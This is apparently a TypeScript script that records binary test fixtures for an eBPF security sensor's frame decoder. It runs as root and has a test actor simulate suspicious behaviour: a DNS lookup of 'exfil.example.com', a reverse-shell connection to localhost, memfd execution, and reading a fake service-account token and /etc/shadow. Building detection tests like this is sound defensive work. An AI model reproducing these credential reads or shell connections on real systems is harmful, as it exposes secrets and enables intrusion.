// Records the frames that the decoder's tests replay where no kernel may be touched:
//
//   node --conditions=@throughline/source test/sensor/record.ts     (as root)
//
// One file per kind, each frame as the daemon wrote it. Only what happened in the recording's own cgroup is kept.
import { FrameDecoder, type Frame } from '@throughline/sensor';
import { spawn } from 'node:child_process';
import { mkdirSync, mkdtempSync, rmdirSync, rmSync, writeFileSync } from 'node:fs';
import net from 'node:net';
import os from 'node:os';
import path from 'node:path';

import { actorProgram, daemon, makeCgroup, root, whyNoBpf } from './sensor.ts';
import { until } from '../until.ts';

if (whyNoBpf()) process.exit(1);
process.chdir('/'); // the working directory is part of each exec
const actor = actorProgram();
const cgroup = makeCgroup();
const frames: { frame: Frame; bytes: Buffer }[] = [];
let rest = Buffer.alloc(0);

const child = spawn(daemon, ['--profile=full', '--enforce', `--pin-directory=/sys/fs/bpf/throughline-record`], {
  stdio: ['ignore', 'pipe', 'inherit'],
});
child.stdout.on('data', (chunk: Buffer) => {
  rest = Buffer.concat([rest, chunk]);
  while (rest.length >= 4 && rest.length >= rest.readUInt32LE(0)) {
    const bytes = Buffer.from(rest.subarray(0, rest.readUInt32LE(0)));
    rest = rest.subarray(bytes.length);
    new FrameDecoder((frame) => frames.push({ frame, bytes })).push(bytes);
  }
});
await until(() => frames.find(({ frame }) => frame.type === 'ready'), 'ready');

const server = net.createServer((socket) => socket.end()).listen(0, '127.0.0.1');
await until(() => server.listening, 'listening');
const port = String((server.address() as net.AddressInfo).port);
const folder = mkdtempSync(path.join(os.tmpdir(), 'recording-'));
const token = path.join(folder, 'serviceaccount/token');
mkdirSync(path.dirname(token));
writeFileSync(token, 'x');
await cgroup.finish(actor, ['say', 'hello world', '', '--password=correcthorse']);
await cgroup.finish(actor, ['connect', '127.0.0.1', port]);
await cgroup.finish(actor, ['connect', '::ffff:127.0.0.1', port]);
await cgroup.finish(actor, ['dns', '127.0.0.1', 'exfil.example.com']);
await cgroup.finish(actor, ['reverse', '127.0.0.1', port]);
await cgroup.finish(actor, ['memfd']);
await cgroup.finish(actor, ['become', '65534', '/bin/true']);
await cgroup.finish(actor, ['trace']);
await cgroup.finish(actor, ['names']);
await cgroup.finish(actor, ['arguments', '100000']);
await cgroup.finish('/bin/cat', [token, '/etc/shadow']);
const inside = path.join(cgroup.directory, 'inner');
mkdirSync(inside);
rmdirSync(inside);
await until(
  () => frames.find(({ frame }) => frame.type === 'stats' && Number(frame.document['canaries']) > 1),
  'counts',
);
child.kill('SIGTERM');
await new Promise((resolve) => child.once('close', resolve));
server.close();
rmSync(folder, { recursive: true });

const target = path.join(root, 'test/data/sensor');
rmSync(target, { recursive: true, force: true });
mkdirSync(target, { recursive: true });
const byKind = new Map<string, Buffer[]>();
for (const { frame, bytes } of frames) {
  if ('actor' in frame && frame.actor.cgroupId !== cgroup.id) continue;
  if (frame.type === 'cgroup' && !frame.path.startsWith(cgroup.path)) continue;
  const kind = byKind.get(frame.type) ?? [];
  byKind.set(frame.type, kind);
  if (kind.length < 40) kind.push(bytes);
}
for (const [kind, parts] of byKind) {
  writeFileSync(path.join(target, `${kind}.bin`), Buffer.concat(parts));
  console.log(`${kind}: ${parts.length} frames`);
}
await cgroup.remove();
